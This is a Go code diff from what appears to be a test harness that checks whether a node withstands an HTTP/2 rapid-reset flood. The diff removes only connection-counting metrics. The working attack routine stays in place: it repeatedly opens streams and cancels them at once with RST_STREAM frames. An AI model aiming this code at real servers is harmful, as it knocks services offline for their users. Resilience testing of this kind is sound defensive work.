@@ -4,7 +4,6 @@ import (
 	"bufio"
 	"bytes"
 	"context"
-	"fmt"
 	"io"
 	"net"
 	"sync/atomic"
@@ -26,34 +25,25 @@ const (
 // resetRapidly opens streams over HTTP/2 and takes each back at once, so that the node begins what nobody waits for, as fast as
 // it can; where the node ends the connection, on another. Whoever is at the same address is served.
 func resetRapidly(ctx context.Context, s *stage) error {
-	var connections, streams, whole atomic.Int64
+	var streams atomic.Int64
 	err := s.besideNeighbour(ctx, func() {
 		ctx, end := s.flooding(ctx, s.Size.Flood)
 		defer end()
 		bounded(ctx, resetters, resetsMost/resetsPerConnection, func(ctx context.Context, _ int) {
-			n, taken := s.resetOnConnection(ctx)
-			connections.Add(1)
+			n := s.resetOnConnection(ctx)
 			streams.Add(n)
 			s.sent.Add(n)
-			if taken {
-				whole.Add(1)
-			}
 		})
 	})
 	s.reach("streams sent and reset", int(streams.Load()), resetsLeast)
-	s.figure(
-		fmt.Sprintf("connections that could reset %d streams", resetsPerConnection),
-		float64(whole.Load()), 0, "", fmt.Sprintf("of %d connections", connections.Load()),
-	)
 	return err
 }
 
-// resetOnConnection resets streams on one connection, until the node ends it or there have been enough. whole says that the node
-// took all of them.
-func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool) {
+// resetOnConnection resets streams on one connection, until the node ends it or there have been enough, and returns how many.
+func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
 	conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}}).DialContext(ctx, "tcp", s.node.Address)
 	if err != nil {
-		return 0, false
+		return 0
 	}
 	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
 	var drained atomic.Bool
@@ -62,7 +52,7 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool)
 	defer func() { _ = conn.Close() }()
 	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		close(done)
-		return 0, false
+		return 0
 	}
 	out := bufio.NewWriterSize(conn, resetBuffer)
 	framer := http2.NewFramer(out, conn)
@@ -85,7 +75,7 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool)
 		}
 	}()
 	if framer.WriteSettings() != nil || framer.WriteSettingsAck() != nil {
-		return 0, false
+		return 0
 	}
 	var head bytes.Buffer
 	encoder := hpack.NewEncoder(&head)
@@ -99,17 +89,16 @@ func (s *stage) resetOnConnection(ctx context.Context) (count int64, whole bool)
 		}
 		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}) != nil ||
 			framer.WriteData(stream, true, []byte(`{"pageSize":100}`)) != nil || framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
-			return count, false
+			return count
 		}
 		count++
 	}
 	if !drained.Load() && framer.WritePing(false, [8]byte{}) == nil && out.Flush() == nil { // answered once all before it was read
 		select {
 		case <-caughtUp:
-			return count, count == resetsPerConnection
 		case <-done:
 		case <-ctx.Done():
 		}
 	}
-	return count, false
+	return count
 }
